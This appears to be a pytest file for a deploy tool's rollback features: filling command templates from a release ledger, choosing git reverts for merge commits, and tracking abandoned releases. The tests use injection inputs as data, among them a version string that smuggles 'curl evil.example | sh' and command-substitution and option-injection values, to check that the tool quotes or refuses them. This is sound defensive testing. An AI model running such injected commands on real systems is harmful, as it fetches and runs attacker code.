"""Rollback commands that fit the deploy tool: the app's templates filled from the ledger,
the right ``git revert`` for the commit, and a board that stops claiming the last green
release is live once a release is abandoned (until something ships or is sealed again)."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from smokeseal.config import Config, load_config, parse_config
from smokeseal.errors import ConfigError
from smokeseal.ledger import Ledger
from smokeseal.rollback import (
    ReleaseFacts,
    default_commands,
    merge_commit,
    placeholders_in,
    render,
    rollback_commands,
)
from smokeseal.ship import resolve_release, ship
from tests.conftest import Demo

RED = ReleaseFacts(7, "3f2a9c1deadbeef", "v2.1.0")
GREEN = ReleaseFacts(6, "1111111aaaa", "v2.0.9")


@pytest.mark.unit
def test_templates_are_filled_and_each_value_quoted_for_the_shell() -> None:
    commands = rollback_commands(
        ["kamal rollback {last_green.version}", "echo {{literal}} {release.short_sha} {branch}",
         "deploy --app {app} --to {last_green.sha}"],
        app="shop", branch="release/2.x", release=RED, last_green=GREEN, checkout=None)
    assert commands == ["kamal rollback v2.0.9", "echo {literal} 3f2a9c1 release/2.x",
                        "deploy --app shop --to 1111111aaaa"]
    # A version is whatever the pipeline named the release: pasted, it stays one argument.
    hostile = ReleaseFacts(6, "1111111", "v1; curl evil.example | sh")
    [line] = rollback_commands(["kamal rollback {last_green.version}"], app="shop",
                               branch="main", release=RED, last_green=hostile, checkout=None)
    # Quoted it is one argument; but a command that hands it to another shell (ssh) would
    # read it again: the line is commented out, to be looked at before it is pasted.
    assert line == ("# kamal rollback 'v1; curl evil.example | sh'  (check before pasting: "
                    "{last_green.version} holds characters a shell reads)")


@pytest.mark.unit
@pytest.mark.parametrize("template", [
    'echo "rolling back {release.version}"',
    "ssh deploy@host 'kamal rollback {last_green.version}'",
    "echo `git log {release.sha}`",
    "echo $(git log {release.sha})",
])
def test_a_placeholder_inside_quotes_or_a_substitution_is_refused(template: str) -> None:
    # Inside quotes a value's own quoting means nothing: "$(touch /tmp/x)" would run.
    with pytest.raises(ValueError, match="write it bare"):
        placeholders_in(template)
    assert placeholders_in("kamal rollback {last_green.version} # it's fine") == [
        "last_green.version"]
    assert placeholders_in(r"echo \"{release.id}") == ["release.id"]


@pytest.mark.unit
def test_without_an_earlier_green_release_the_line_is_commented_out_saying_why() -> None:
    [line] = rollback_commands(["kamal rollback {last_green.version}"], app="shop",
                               branch="main", release=RED, last_green=None, checkout=None)
    assert line.startswith("# kamal rollback {last_green.version}  (no earlier green release")


@pytest.mark.unit
@pytest.mark.parametrize(("template", "error"), [
    ("kamal rollback {last_green.tag}", "unknown placeholder {last_green.tag}"),
    ("kamal rollback {release.__class__}", "unknown placeholder {release.__class__}"),
    ("echo {", "stray '{'"),
    ("echo }", "stray '}'"),
])
def test_an_unknown_placeholder_or_a_stray_brace_is_refused(template: str, error: str) -> None:
    with pytest.raises(ValueError, match=error.replace("{", r"\{").replace("}", r"\}")):
        placeholders_in(template)
    assert render("x {{y}}", {}) == "x {y}"


CONFIG = "apps:\n  shop:\n    url: https://shop.example.com\n    rollback:\n{lines}"


@pytest.mark.unit
def test_the_config_refuses_a_bad_template_naming_the_key() -> None:
    with pytest.raises(ConfigError) as raised:
        parse_config(CONFIG.format(lines="      - kamal rollback {last_green.tag}\n"))
    message = str(raised.value)
    assert "apps.shop.rollback" in message and "{last_green.tag}" in message
    with pytest.raises(ConfigError, match=r"apps\.shop\.rollback"):
        parse_config("apps:\n  shop:\n    url: https://shop.example.com\n    rollback: []\n")


@pytest.mark.unit
def test_a_variable_in_a_template_is_printed_as_written_never_its_value() -> None:
    config = parse_config(CONFIG.format(lines="      - kamal rollback -d ${KAMAL_DEST} "
                                              "{last_green.version}\n"),
                          environ={"KAMAL_DEST": "prod-s3cr3t"})
    app = config.app("shop")
    assert app.rollback_as_written == ["kamal rollback -d ${KAMAL_DEST} {last_green.version}"]
    [line] = rollback_commands(app.rollback_as_written, app="shop", branch="main",
                               release=RED, last_green=GREEN, checkout=None)
    assert line == "kamal rollback -d ${KAMAL_DEST} v2.0.9"


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True,
                          text=True, env={"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x",
                                          "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@x",
                                          "HOME": str(repo), "PATH": "/usr/bin:/bin"}
                          ).stdout.strip()


@pytest.fixture
def checkout(tmp_path: Path) -> tuple[Path, str, str]:
    """A git checkout holding a plain commit and a merge commit: (path, plain, merge)."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "commit", "-q", "--allow-empty", "-m", "base")
    _git(repo, "checkout", "-q", "-b", "feature")
    _git(repo, "commit", "-q", "--allow-empty", "-m", "feature")
    plain = _git(repo, "rev-parse", "HEAD")
    _git(repo, "checkout", "-q", "main")
    _git(repo, "commit", "-q", "--allow-empty", "-m", "hotfix")
    _git(repo, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    return repo, plain, _git(repo, "rev-parse", "HEAD")


@pytest.mark.component
def test_a_shallow_clone_cannot_say_and_both_reverts_are_printed(
        checkout: tuple[Path, str, str], tmp_path: Path) -> None:
    repo, _, merge = checkout
    shallow = tmp_path / "shallow"
    _git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(shallow))
    # actions/checkout's default: the merge at HEAD shows no parents there.
    assert merge_commit(merge, shallow) is None
    assert len(default_commands(ReleaseFacts(3, merge, "v3"), "main", shallow)) == 3


@pytest.mark.component
def test_git_says_which_commit_is_a_merge(checkout: tuple[Path, str, str],
                                          tmp_path: Path) -> None:
    repo, plain, merge = checkout
    assert merge_commit(merge, repo) is True
    assert merge_commit(merge[:7], repo) is True
    assert merge_commit(plain, repo) is False
    assert merge_commit("abcdef1234567", repo) is None  # not in this checkout
    assert merge_commit(plain, tmp_path / "nowhere") is None
    assert merge_commit("--output=/tmp/x", repo) is None  # never handed to git
    assert default_commands(ReleaseFacts(3, merge, "v3"), "main", repo)[1:] == [
        f"git revert -m 1 {merge[:7]} # on main"]
    assert default_commands(ReleaseFacts(3, plain, "v3"), "main", repo)[1:] == [
        f"git revert {plain[:7]} # on main"]


def _config(demo: Demo, folder: Path, extra: str = "") -> Config:
    folder.mkdir(parents=True, exist_ok=True)
    text = demo.config_yaml().replace("    suite: qa-readonly\n",
                                      "    suite: qa-readonly\n    deploy: 'true'\n"
                                      "    gate: {timeout: 3, interval: 0.2}\n" + extra)
    path = folder / "smokeseal.yml"
    path.write_text(text)
    return load_config(path)


@pytest.mark.integration
def test_a_red_seal_prints_the_apps_templates_filled_from_the_ledger(
        demo: Demo, ledger_url: str, tmp_path: Path, browser_executable: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SMOKESEAL_BROWSER", browser_executable)
    config = _config(demo, tmp_path / "app", "    rollback:\n"
                     "      - kamal rollback {last_green.version}\n"
                     "      - smokeseal release abandon {release.id}\n")
    with Ledger(ledger_url) as ledger:
        good = ship(config, ledger, resolve_release(ledger, config, "demo", version="v1",
                                                    sha="1111111"))
        assert good.seal is not None and good.seal.green
        demo.state.set_faults("devops_exposed")
        red = ship(config, ledger, resolve_release(ledger, config, "demo", version="v2",
                                                   sha="3f2a9c1"))
        assert red.seal is not None and not red.seal.green
        assert red.seal.rollback == ["kamal rollback v1",
                                     f"smokeseal release abandon {red.release.id}"]
        assert ledger.release(red.release.id).smoke_seal["rollback"] == red.seal.rollback


@pytest.mark.integration
def test_in_the_checkout_that_holds_a_merge_commit_the_revert_is_minus_m_1(
        demo: Demo, ledger_url: str, checkout: tuple[Path, str, str], browser_executable: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SMOKESEAL_BROWSER", browser_executable)
    repo, plain, merge = checkout
    config = _config(demo, repo)
    demo.state.set_faults("devops_exposed")
    with Ledger(ledger_url) as ledger:
        for sha, revert in ((merge, f"git revert -m 1 {merge[:7]} # on main"),
                            (plain, f"git revert {plain[:7]} # on main")):
            result = ship(config, ledger, resolve_release(ledger, config, "demo",
                                                          version=sha[:9], sha=sha))
            assert result.seal is not None and not result.seal.green
            assert result.seal.rollback == [f"smokeseal release abandon {result.release.id}",
                                            revert]


def _sealed(ledger: Ledger, version: str, status: str, at: datetime | None = None,
            app: str = "shop") -> int:
    release = ledger.create_release(app, version, "3f2a9c1")
    ledger.mark_shipped(release.id)
    checked = (at or datetime.now(UTC)).strftime("%Y-%m-%dT%H:%M:%SZ")
    ledger.record_seal(release.id, {"status": status, "summary": "", "checked_at": checked,
                                    "base_url": "https://shop.example.com", "duration_ms": 1,
                                    "checks": []})
    return release.id


@pytest.mark.component
def test_after_an_abandon_nothing_is_live_until_a_ship_or_a_new_seal(ledger_url: str) -> None:
    with Ledger(ledger_url) as ledger:
        _sealed(ledger, "v1", "green", datetime(2026, 1, 1, tzinfo=UTC))
        red = _sealed(ledger, "v2", "red")
        assert ledger.rolled_back("shop") is None
        ledger.abandon(red)
        pending = ledger.rolled_back("shop")
        assert pending is not None and pending.id == red
        # An abandon of a release that never shipped changes nothing.
        never = ledger.create_release("shop", "v2.1", "3f2a9c1")
        ledger.abandon(never.id)
        assert ledger.rolled_back("shop") is not None
        # The live release sealed again after the rollback speaks for production.
        v1 = ledger.release("shop@v1")
        ledger.record_seal(v1.id, {**(v1.smoke_seal or {}), "checked_at": "2999-01-01T00:00:00Z"})
        assert ledger.rolled_back("shop") is None
        # Another app: a release shipped after the abandon is what runs now.
        _sealed(ledger, "v1", "green", datetime(2026, 1, 1, tzinfo=UTC), app="cart")
        _sealed(ledger, "v2", "red", app="cart")
        ledger.abandon("cart@v2")
        assert ledger.rolled_back("cart") is not None
        _sealed(ledger, "v3", "green", app="cart")
        assert ledger.rolled_back("cart") is None
        assert ledger.rolled_back("other") is None


@pytest.mark.component
def test_rollbacks_of_every_app_at_once_agree_with_each_apps(ledger_url: str) -> None:
    with Ledger(ledger_url) as ledger:
        def agree() -> set[str]:
            each = {app for app in ledger.apps() if ledger.rolled_back(app) is not None}
            together = ledger.rollbacks()
            assert set(together) == each
            for app, release in together.items():
                assert release.id == ledger.rolled_back(app).id  # type: ignore[union-attr]
            return each

        assert agree() == set()
        _sealed(ledger, "v1", "green", datetime(2026, 1, 1, tzinfo=UTC))
        red = _sealed(ledger, "v2", "red")
        _sealed(ledger, "v1", "green", datetime(2026, 1, 1, tzinfo=UTC), app="cart")
        _sealed(ledger, "v2", "red", app="cart")
        ledger.create_release("draft", "v1", "3f2a9c1")
        ledger.abandon(red)
        ledger.abandon("cart@v2")
        assert agree() == {"shop", "cart"}
        v1 = ledger.release("shop@v1")
        ledger.record_seal(v1.id, {**(v1.smoke_seal or {}), "checked_at": "2999-01-01T00:00:00Z"})
        assert agree() == {"cart"}
        _sealed(ledger, "v3", "green", app="cart")
        assert agree() == set()
